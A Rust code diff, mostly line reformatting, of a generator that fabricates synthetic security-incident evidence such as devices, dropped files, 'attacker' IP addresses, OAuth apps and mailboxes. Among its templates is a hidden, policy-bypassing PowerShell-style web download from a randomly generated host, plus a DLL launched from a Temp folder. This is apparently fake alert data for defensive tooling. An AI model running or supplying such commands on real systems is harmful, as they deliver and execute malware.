@@ -58,7 +58,13 @@ fn site(random: &mut Random) -> String {
 }
 
 fn public_address(random: &mut Random) -> String {
-    format!("{}.{}.{}.{}", 11 + random.below(150), random.below(256), random.below(256), 1 + random.below(254))
+    format!(
+        "{}.{}.{}.{}",
+        11 + random.below(150),
+        random.below(256),
+        random.below(256),
+        1 + random.below(254)
+    )
 }
 
 impl Scene {
@@ -104,7 +110,12 @@ impl Scene {
         let mut dropped = Vec::new();
         for _ in 0..2 {
             let folder = random.pick(FOLDERS).replace('@', &person.account);
-            let name = format!("{}{}.{}", word(random), random.below(1_000), random.pick(&["exe", "dll", "js", "lnk"]));
+            let name = format!(
+                "{}{}.{}",
+                word(random),
+                random.below(1_000),
+                random.pick(&["exe", "dll", "js", "lnk"])
+            );
             let file = file(random, &name, &folder);
             let thing = json!({ "detectionStatus": "detected", "mdeDeviceId": device, "fileDetails": file });
             self.add(random, "file", "", thing);
@@ -131,7 +142,10 @@ impl Scene {
 
     fn add_device(&mut self, random: &mut Random, device: &str, person: &Person) {
         let name = format!("{}-{:05}", random.pick(&["ws", "lt", "srv"]), random.below(100_000));
-        let (lan, seen) = (format!("10.{}.{}.{}", random.below(64), random.below(256), random.below(256)), random.below(self.begun + 1));
+        let (lan, seen) = (
+            format!("10.{}.{}.{}", random.below(64), random.below(256), random.below(256)),
+            random.below(self.begun + 1),
+        );
         let thing = json!({
             "firstSeenDateTime": random.moment(seen),
             "mdeDeviceId": device,
@@ -162,9 +176,21 @@ impl Scene {
         let (program, folder) = PROGRAMS[random.below(PROGRAMS.len())];
         let (parent, parent_folder) = PROGRAMS[random.below(PROGRAMS.len())];
         let command = match random.below(3) {
-            _ if image.is_some() => format!("\"{}\" -{}", image.map_or("", |file| file["fileName"].as_str().unwrap_or("")), word(random)),
-            0 => format!("\"{folder}\\{program}\" -w hidden -ep bypass -c iwr https://{}/{}", site(random), random.hex(8)),
-            1 => format!("{program} C:\\Users\\{}\\AppData\\Local\\Temp\\{}.dll,Start", person.account, word(random)),
+            _ if image.is_some() => format!(
+                "\"{}\" -{}",
+                image.map_or("", |file| file["fileName"].as_str().unwrap_or("")),
+                word(random)
+            ),
+            0 => format!(
+                "\"{folder}\\{program}\" -w hidden -ep bypass -c iwr https://{}/{}",
+                site(random),
+                random.hex(8)
+            ),
+            1 => format!(
+                "{program} C:\\Users\\{}\\AppData\\Local\\Temp\\{}.dll,Start",
+                person.account,
+                word(random)
+            ),
             _ => format!("{program} /c {}{}.bat", word(random), random.below(100)),
         };
         // A program of the operating system is the same file on many devices: one of a few builds.
@@ -218,8 +244,14 @@ impl Scene {
         }
         self.add(random, "url", "", json!({ "url": url }));
         let (country, city) = PLACES[random.below(PLACES.len())];
-        self.add(random, "ip", "attacker", json!({ "ipAddress": from, "location": { "countryName": country, "city": city } }));
-        let name = format!("{}_{}.{}", word(random), random.digits(5), random.pick(&["pdf", "docm", "html", "zip"]));
+        self.add(
+            random,
+            "ip",
+            "attacker",
+            json!({ "ipAddress": from, "location": { "countryName": country, "city": city } }),
+        );
+        let name =
+            format!("{}_{}.{}", word(random), random.digits(5), random.pick(&["pdf", "docm", "html", "zip"]));
         let file = file(random, &name, "");
         self.add(random, "file", "", json!({ "detectionStatus": "detected", "fileDetails": file }));
         self.add(random, "dns", "", json!({ "domainName": sender }));
@@ -233,14 +265,18 @@ impl Scene {
         for _ in 0..4 {
             let (country, city) = PLACES[random.below(PLACES.len())];
             let address = public_address(random);
-            self.add(random, "ip", "attacker", json!({ "ipAddress": address, "location": { "countryName": country, "city": city } }));
+            self.add(
+                random,
+                "ip",
+                "attacker",
+                json!({ "ipAddress": address, "location": { "countryName": country, "city": city } }),
+            );
         }
         let application = json!({
             "displayName": format!("{} {}", word(random), word(random)), "appId": random.guid(), "objectId": random.guid(), "publisher": null
         });
         self.add(random, "oauthApplication", "", application);
-        let mailbox =
-            json!({ "primaryAddress": people[0].address(), "displayName": people[0].name, "userAccount": people[0].json() });
+        let mailbox = json!({ "primaryAddress": people[0].address(), "displayName": people[0].name, "userAccount": people[0].json() });
         self.add(random, "mailbox", "", mailbox);
         let device = random.hex(40);
         self.add_device(random, &device, &people[0]);
